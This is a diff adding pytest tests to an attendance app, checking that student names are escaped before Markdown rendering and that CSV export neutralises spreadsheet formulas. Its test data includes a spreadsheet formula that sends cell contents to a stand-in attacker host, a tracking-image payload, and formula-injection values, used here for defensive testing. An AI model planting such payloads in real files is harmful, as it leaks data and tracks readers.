@@ -5,7 +5,9 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import html
 import io
+import re
 import json
 import socket
 import zipfile
@@ -25,6 +27,7 @@ from frontend.roster import (
     student_for_photo,
 )
 from frontend.stats import daily_rates, records_csv, roster_sizes, student_rates
+from frontend.ui import WORD_JOINER, plain
 
 D1, D2, D3 = dt.date(2026, 11, 2), dt.date(2026, 11, 3), dt.date(2026, 11, 4)
 
@@ -223,6 +226,73 @@ def test_student_rate_is_days_present_over_days_the_class_met():
     assert everywhere["s1"] == (2, 4) and "s3" not in everywhere
     ordered = [r.student_id for r in student_rates(records, roster, "room-1")]
     assert ordered[0] == "s0" and ordered[-1] == "s2"
+
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?x="&A2,"details")',
+    "**bold** [link](http://x)",
+    "<b>x</b>",
+    "![tracker](http://evil.example/p.png)",
+    "# Heading", "- item", "1. first", "> quote", "`code`", "a_b_ c_", "~~gone~~",
+    ":red[alarm] :material/warning: $x^2$", "| a | b |", "&amp; &lt;", "<http://x>",
+    "back\\slash\\*", "O'Brien, Zoë (s1)", "",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE_NAMES)
+def test_plain_markdown_renders_as_the_literal_text(text):
+    markdown_it = pytest.importorskip("markdown_it")
+    md = markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"])
+    rendered = md.render(plain(text)).strip()
+    if not text:
+        assert rendered == ""
+        return
+    # One paragraph of text: no tag inside it (no link, image, emphasis, code, HTML), and the
+    # text is exactly what was typed.
+    assert rendered.startswith("<p>") and rendered.endswith("</p>"), rendered
+    inner = rendered[len("<p>"):-len("</p>")]
+    assert "<" not in inner and html.unescape(inner).replace(WORD_JOINER, "") == text, rendered
+
+
+# GitHub-flavoured Markdown's bare-address links (mdast-util-gfm-autolink-literal), which
+# Streamlit applies to the text after escapes are read.
+GFM_AUTOLINKS = [re.compile(r"(https?://|www(?=\.))[-.\w]+", re.I),
+                 re.compile(r"[-.\w+]+@[-\w]+(\.[-\w]+)+")]
+
+
+@pytest.mark.parametrize("text", ["see http://evil.example/x", "HTTPS://evil.example",
+                                  "www.evil.example", "_www.evil.example", "mail a@evil.example",
+                                  "mailto:a@evil.example"])
+def test_plain_leaves_no_bare_address_to_turn_into_a_link(text):
+    shown = re.sub(r"\\(.)", r"\1", plain(text))  # what the Markdown parser leaves as text
+    assert shown.replace(WORD_JOINER, "") == text
+    assert not any(p.search(shown) for p in GFM_AUTOLINKS), shown
+    assert plain(text, links=True).replace("\\", "") == text  # settings' URLs stay links
+
+
+def test_plain_escapes_every_markdown_special_and_keeps_letters():
+    assert plain("**x** [l](u) <b>") == r"\*\*x\*\* \[l\]\(u\) \<b\>"
+    assert plain("Zoë Ng 42") == "Zoë Ng 42"
+    assert plain("two\nlines") == "two lines"  # one line: no block can start mid-label
+    assert plain(None) == "" and plain(3) == "3"
+
+
+def test_records_csv_export_neutralises_formulas():
+    name = '=HYPERLINK("http://evil.example/?x="&A2,"details")'
+    data = records_csv([record("s1", D1, name=name), record("s2", D1, name="+1"),
+                        record("s3", D1, name="@SUM(A1)"), record("s4", D1, name="-2")])
+    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+    assert {r["student_id"]: r["name"] for r in rows} == {
+        "s1": "'" + name, "s2": "'+1", "s3": "'@SUM(A1)", "s4": "'-2"}
+    assert rows[0]["distance"] == "0.2000"  # numbers stay numbers
+    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
+
+
+def test_the_example_roster_csv_parses_back():
+    from frontend.views.enroll import CSV_EXAMPLE
+
+    parsed = parse_roster_csv(CSV_EXAMPLE)
+    assert parsed.errors == [] and [r.student_id for r in parsed.rows] == ["s001", "s002"]
 
 
 def test_records_csv_export():
